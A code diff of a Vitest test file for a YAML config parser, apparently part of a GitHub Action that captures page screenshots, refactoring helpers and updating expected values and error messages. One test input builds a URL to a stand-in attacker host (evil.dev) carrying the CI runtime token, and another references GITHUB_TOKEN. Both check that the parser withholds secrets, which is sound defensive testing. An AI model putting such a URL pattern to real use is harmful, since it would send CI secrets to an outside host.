@@ -1,33 +1,36 @@
 import { describe, expect, it } from 'vitest';
 import { renderProblems } from '../../src/errors/problem.ts';
-import { parseConfigFile } from '../../src/inputs/config-file.ts';
+import { type ConfigFile, parseConfigFile } from '../../src/inputs/config-file.ts';
+import { fileVariables } from '../../src/inputs/file-variables.ts';
 
 const file = 'visual-capture.yml';
+const parse = (text: string, env: Record<string, string> = {}): ConfigFile =>
+  parseConfigFile(text, file, fileVariables(env, new Map()));
 const problemsOf = (text: string, env: Record<string, string> = {}): string[] =>
-  renderProblems(parseConfigFile(text, file, env).problems)
-    .split('\n')
-    .slice(1);
+  renderProblems(parse(text, env).problems).split('\n').slice(1);
 
 describe('parseConfigFile', () => {
   it('reads every form of target with the line it stands on', () => {
-    const config = parseConfigFile(
+    const config = parse(
       'full-page: true\ntargets:\n  - /\n  # a comment\n  - url: /pricing\n    name: pricing\n    selector: "#plans"\n  - name: card\n    html: "<h1>Hello</h1>"\n  - {name: page, html-file: page.html}\n',
-      file,
-      {},
     );
     expect(config.problems).toEqual([]);
-    expect(config.inputs.get('full-page')).toEqual({ raw: true, place: { kind: 'file', file, line: 1 } });
+    expect(config.inputs.get('full-page')).toEqual({ raw: true, by: 'config-file', place: { kind: 'file', file, line: 1 } });
     expect(config.targets.map(({ page, place, name }) => [page, place.line, name?.raw])).toEqual([
       [{ kind: 'url', url: '/' }, 3, undefined],
       [{ kind: 'url', url: '/pricing' }, 5, 'pricing'],
       [{ kind: 'html', html: '<h1>Hello</h1>' }, 8, 'card'],
       [{ kind: 'html-file', path: 'page.html' }, 10, 'page'],
     ]);
-    expect(config.targets[1]?.settings.get('selector')).toEqual({ raw: '#plans', place: { kind: 'file', file, line: 7 } });
+    expect(config.targets[1]?.settings.get('selector')).toEqual({
+      raw: '#plans',
+      by: 'config-file',
+      place: { kind: 'file', file, line: 7 },
+    });
   });
 
   it('puts the environment in, after the YAML was understood', () => {
-    const config = parseConfigFile('base-url: ${PREVIEW}\napi-options: {a: "${N}"}\ntargets: ["/$${X}"]\n', file, {
+    const config = parse('base-url: ${PREVIEW}\napi-options: {a: "${N}"}\ntargets: ["/$${X}"]\n', {
       PREVIEW: 'https://x.dev: # not YAML',
       N: 'n',
     });
@@ -38,7 +41,7 @@ describe('parseConfigFile', () => {
 
   it('withholds what GitHub hands to the step, so that a config file cannot send it anywhere', () => {
     expect(problemsOf('base-url: https://evil.dev/${ACTIONS_RUNTIME_TOKEN}', { ACTIONS_RUNTIME_TOKEN: 'secret' })[0]).toContain(
-      'visual-capture.yml:1: ${ACTIONS_RUNTIME_TOKEN} is kept from the config file',
+      'visual-capture.yml:1: ${ACTIONS_RUNTIME_TOKEN} holds a secret of the run',
     );
   });
 
@@ -82,7 +85,7 @@ describe('parseConfigFile', () => {
     ['targets: [{url: /, foo: 1}]', 'unknown key "foo". Nearest: '],
     ['a: &a {threshold: 1}\n<<: *a', 'unknown key "a"'],
     ['targets: [{url: /, <<: {threshold: 1}}]', 'YAML merge keys (<<) are not supported. Write the settings out'],
-    ['base-url: ${GITHUB_TOKEN}', '${GITHUB_TOKEN} is kept from the config file, so that no page is sent a token of GitHub'],
+    ['base-url: ${GITHUB_TOKEN}', '${GITHUB_TOKEN} holds a secret of the run, which is kept from the config file'],
     ['a: 1\n---\nb: 2\n', 'holds more than one YAML document. Keep one, without a line of --- between'],
     ['targets: ["/red shoes"]', '"/red shoes" holds a blank. Write it as %20'],
     ['targets: ["pricing ="]', '"pricing =" must be a URL or a path, or name = URL or path'],
@@ -99,23 +102,24 @@ describe('parseConfigFile', () => {
   });
 
   it('takes name = URL in the short form, as the input urls does', () => {
-    const { targets, problems } = parseConfigFile('targets:\n  - pricing = /p?a=b\n  - /p?a=b\n', file, {});
+    const { targets, problems } = parse('targets:\n  - pricing = /p?a=b\n  - /p?a=b\n');
     expect(problems).toEqual([]);
     const place = { kind: 'file', file, line: 2 };
     expect(targets[0]).toEqual({
       place,
+      by: 'config-file',
       page: { kind: 'url', url: '/p?a=b' },
-      name: { raw: 'pricing', place },
+      name: { raw: 'pricing', place, by: 'config-file' },
       settings: new Map(),
     });
     expect(targets[1]?.name).toBeUndefined();
   });
 
   it('leaves an unquoted viewport that begins with 0x as it is written', () => {
-    expect(parseConfigFile('viewports: [0x100]', file, {}).inputs.get('viewports')?.raw).toEqual(['0x100']);
+    expect(parse('viewports: [0x100]').inputs.get('viewports')?.raw).toEqual(['0x100']);
   });
 
   it('takes an empty file as one that says nothing', () => {
-    expect(parseConfigFile('# nothing\n', file, {})).toEqual({ inputs: new Map(), targets: [], problems: [] });
+    expect(parse('# nothing\n')).toEqual({ inputs: new Map(), targets: [], problems: [] });
   });
 });
